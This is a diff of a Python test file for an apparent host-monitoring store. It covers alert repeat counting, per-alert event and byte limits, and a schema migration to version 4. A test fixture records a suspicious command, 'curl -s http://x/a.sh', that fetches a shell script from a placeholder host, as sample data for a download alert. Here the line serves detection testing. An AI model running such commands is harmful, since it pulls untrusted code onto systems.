@@ -1,11 +1,15 @@
-"""The store as a plain object: exactly-once batches, agents, tokens, retention."""
+"""The store as a plain object: exactly-once batches, agents, tokens, retention,
+alerts and their repeats, migrations."""
 
+import sqlite3
 import time
 
+import msgspec
 import pytest
 
 import wire
-from hive import Ingest, Store, StoreError
+from hive import SCHEMA_VERSION, Ingest, Repeat, Store, StoreError
+from hive._store import _SCHEMA_V1, ALERT_BYTES, ALERT_EVENTS, MIGRATIONS
 
 
 def batch(agent, seq, n=3, stream="s1", t0=None):
@@ -217,11 +221,6 @@ def test_retention_reaches_every_table(store):
 
 
 def test_a_store_of_an_older_schema_is_migrated_and_a_newer_one_refused(tmp_path):
-    import sqlite3
-
-    from hive import SCHEMA_VERSION
-    from hive._store import _SCHEMA_V1
-
     path = tmp_path / "old.db"
     db = sqlite3.connect(path)
     db.executescript(_SCHEMA_V1)
@@ -243,12 +242,8 @@ def test_a_store_of_an_older_schema_is_migrated_and_a_newer_one_refused(tmp_path
 
 
 def test_a_version_2_store_gets_the_agents_wire_version_and_keeps_its_data(tmp_path):
-    import sqlite3
+    from hive._store import _hash_token
 
-    from hive import SCHEMA_VERSION
-    from hive._store import _SCHEMA_V1, MIGRATIONS, _hash_token
-
-    assert SCHEMA_VERSION == 3
     path = tmp_path / "v2.db"
     # A store as the immune-node of schema version 2 left it.
     db = sqlite3.connect(path, isolation_level=None)
@@ -266,7 +261,7 @@ def test_a_version_2_store_gets_the_agents_wire_version_and_keeps_its_data(tmp_p
     with pytest.raises(StoreError, match="schema version 2, older than .* start the hive once"):
         Store(path, readonly=True)
     s = Store(path)
-    assert s.db.execute("SELECT value FROM meta WHERE key='schema'").fetchone()[0] == "3"
+    assert s.db.execute("SELECT value FROM meta WHERE key='schema'").fetchone()[0] == str(SCHEMA_VERSION)
     [row] = s.agents()
     assert (row.id, row.public_key, row.hostname, row.pid, row.online, row.wire_version) == (
         "a", "A" * 40, "web", 42, True, None)  # None: no Hello said one since
@@ -289,3 +284,82 @@ def test_many_agents_signs_of_life_in_one_transaction(store):
     rows = {r.id: r for r in store.agents()}
     assert rows["a"].pid == 42 and rows["a"].online and not rows["b"].online
     assert rows["a"].last_seen == 3.0
+
+
+# -- repeats counted, not dropped (issue 12) ------------------------------------------
+
+
+def run(pid: int, t: int, cwd: str = "/root") -> wire.Exec:
+    return wire.Exec(agent="web1", time=t, pid=pid, filename="/usr/bin/curl", cwd=cwd,
+                     cmdline="curl -s http://x/a.sh")
+
+
+def alert(id: str = "a1", t: int = 1_000) -> wire.Alert:
+    return wire.Alert(id=id, rule_id="r1", title="Download", level="high", agent="web1", time=t,
+                      events=[run(100, t)])
+
+
+def test_a_repeat_raises_the_count_and_last_seen_and_keeps_its_event(store):
+    second = run(101, 2_000, cwd="/tmp")  # another step, same program and command line
+    out = store.ingest([], [alert(), Repeat(alert="a1", time=2_000, events=[second])])  # one commit
+    assert out.dropped == 0
+    (a,) = store.alerts()
+    assert (a.count, a.time, a.last_seen) == (2, 1_000, 2_000)
+    assert [e.pid for e in a.events] == [100, 101] and a.events[1].cwd == "/tmp"
+    store.ingest([], [Repeat(alert="a1", time=1_500, events=[run(102, 1_500)])])  # late: last_seen stays
+    (a,) = store.alerts()
+    assert (a.count, a.last_seen, len(a.events)) == (3, 2_000, 3)
+    assert store.alert_hits() == {"r1": 3}
+
+
+def test_an_alert_keeps_its_first_events_and_counts_the_rest(store):
+    store.ingest([], [alert()])
+    store.ingest([], [Repeat(alert="a1", time=2_000 + n, events=[run(200 + n, 2_000 + n)]) for n in range(100)])
+    (a,) = store.alerts()
+    assert a.count == 101 and a.last_seen == 2_099
+    assert [e.pid for e in a.events] == [100, *range(200, 200 + ALERT_EVENTS - 1)]
+
+
+def test_an_alert_body_stays_within_its_byte_bound(store):
+    store.ingest([], [alert()])
+    big = wire.Exec(agent="web1", time=2_000, pid=300, filename="/x", argv=["z" * 4000] * 50)  # 200 KB
+    store.ingest([], [Repeat(alert="a1", time=2_000, events=[big]) for _ in range(12)])
+    (body,) = store.db.execute("SELECT body FROM alerts").fetchone()
+    assert len(body) <= ALERT_BYTES
+    (a,) = store.alerts()
+    assert a.count == 13 and len(a.events) == 1 + ALERT_BYTES // 200_000
+
+
+def test_a_repeat_of_an_alert_not_stored_is_counted_as_dropped(store):
+    assert store.ingest([], [Repeat(alert="gone", time=1, events=[run(1, 1)])]).dropped == 1
+    assert store.alerts() == []
+
+
+def test_an_alert_filed_under_an_incident_later_keeps_its_repeats(store):
+    store.ingest([], [alert(), Repeat(alert="a1", time=2_000, events=[run(101, 2_000)])])
+    again = alert()
+    again.incident = "inc-1"  # correlate writes an earlier alert again with its incident
+    store.ingest([], [again])
+    (a,) = store.alerts()
+    assert (a.incident, a.count, [e.pid for e in a.events]) == ("inc-1", 2, [100, 101])
+
+
+def test_a_version_3_store_opens_with_its_alerts_and_gains_count_and_last_seen(tmp_path):
+    path = tmp_path / "v3.db"
+    db = sqlite3.connect(path, isolation_level=None)
+    db.executescript(_SCHEMA_V1)
+    for step in MIGRATIONS[:2]:
+        step(db)
+    db.execute("INSERT INTO meta VALUES('schema', '3')")
+    old = msgspec.msgpack.encode(alert("old", t=5_000))
+    db.execute("INSERT INTO alerts(id, time, agent, rule_id, title, level, incident, body) "
+               "VALUES('old', 5000, 'web1', 'r1', 'Download', 'high', 'inc-9', ?)", (old,))
+    db.close()
+    s = Store(path)
+    assert s.db.execute("SELECT value FROM meta WHERE key='schema'").fetchone()[0] == str(SCHEMA_VERSION) == "4"
+    (a,) = s.alerts()
+    assert (a.id, a.count, a.last_seen, a.incident) == ("old", 1, 5_000, "inc-9")
+    s.ingest([], [Repeat(alert="old", time=6_000, events=[run(101, 6_000)])])
+    (a,) = s.alerts()
+    assert (a.count, a.last_seen, len(a.events)) == (2, 6_000, 2)
+    s.close()
